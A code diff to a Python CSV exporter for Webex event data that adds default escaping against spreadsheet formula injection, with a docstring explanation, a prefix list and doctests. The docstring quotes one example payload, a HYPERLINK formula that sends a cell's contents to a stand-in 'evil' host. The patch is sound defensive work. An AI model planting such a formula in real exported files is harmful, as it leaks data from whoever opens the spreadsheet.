@@ -5,6 +5,14 @@ the empty cell, any other value as compact JSON with non-ASCII kept (booleans ``
 numbers as JSON writes them, arrays and objects such as ``["a","b"]``). Webex sends values of
 other types than its spec says (attendees as strings, ``isCallAnswered`` as a boolean: see
 docs/design.md, "Tolerance"); they are rendered by the same rule, never dropped.
+
+Formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
+in some, a tab or carriage return) as a formula, so a message text such as
+``=HYPERLINK("http://evil/?"&A1)`` would act when a compliance officer opens the file. By
+default such a *text* cell is written with a leading ``'`` (OWASP's advice), which spreadsheets
+show as text; numbers, booleans and JSON arrays/objects never start with a formula character
+that a spreadsheet would evaluate and are left alone. ``escape_formulas=False`` (the CLI's
+``--no-csv-escape``) writes every cell exactly as sent, for programs that read the CSV.
 """
 
 from __future__ import annotations
@@ -17,7 +25,7 @@ from typing import Any
 
 from webex_events_api.spec import EVENT_FIELDS
 
-__all__ = ["CSV_COLUMNS", "csv_header", "csv_rows"]
+__all__ = ["CSV_COLUMNS", "FORMULA_PREFIXES", "csv_header", "csv_rows"]
 
 #: The columns of ``--format csv``, in order: every field of the spec's Event schema, with
 #: ``data.X`` for the field ``X`` of the event's ``data`` object (``data`` itself is spread over
@@ -32,12 +40,22 @@ CSV_COLUMNS: tuple[str, ...] = tuple(
 _PLAN: tuple[tuple[str, ...], ...] = tuple(tuple(c.split(".")) for c in CSV_COLUMNS)
 
 
+#: A text cell starting with one of these gets a leading ``'`` unless escaping is off.
+FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _cell(value: Any) -> str:
     if value is None:
         return ""
     if isinstance(value, str):
         return value
     return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
+
+
+def _safe_cell(value: Any) -> str:
+    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+        return "'" + value
+    return _cell(value)
 
 
 def _get(raw: Mapping[str, Any], path: tuple[str, ...]) -> Any:
@@ -53,6 +71,10 @@ def _row(raw: Mapping[str, Any]) -> list[str]:
     return [_cell(_get(raw, path)) for path in _PLAN]
 
 
+def _safe_row(raw: Mapping[str, Any]) -> list[str]:
+    return [_safe_cell(_get(raw, path)) for path in _PLAN]
+
+
 def csv_header() -> str:
     """Return the header line (CRLF-terminated, RFC 4180)."""
     buf = io.StringIO()
@@ -60,8 +82,15 @@ def csv_header() -> str:
     return buf.getvalue()
 
 
-def csv_rows(raws: Iterable[Mapping[str, Any]]) -> str:
-    """Render the rows of the given decoded events as CSV text."""
+def csv_rows(raws: Iterable[Mapping[str, Any]], *, escape_formulas: bool = True) -> str:
+    """Render the rows of the given decoded events as CSV text.
+
+    >>> csv_rows([{"id": "E1", "data": {"text": "=1+1"}}]).count("'=1+1")
+    1
+    >>> csv_rows([{"id": "E1", "data": {"text": "=1+1"}}], escape_formulas=False).count("'=1+1")
+    0
+    """
+    row = _safe_row if escape_formulas else _row
     buf = io.StringIO()
-    csv.writer(buf).writerows(_row(raw) for raw in raws)
+    csv.writer(buf).writerows(row(raw) for raw in raws)
     return buf.getvalue()
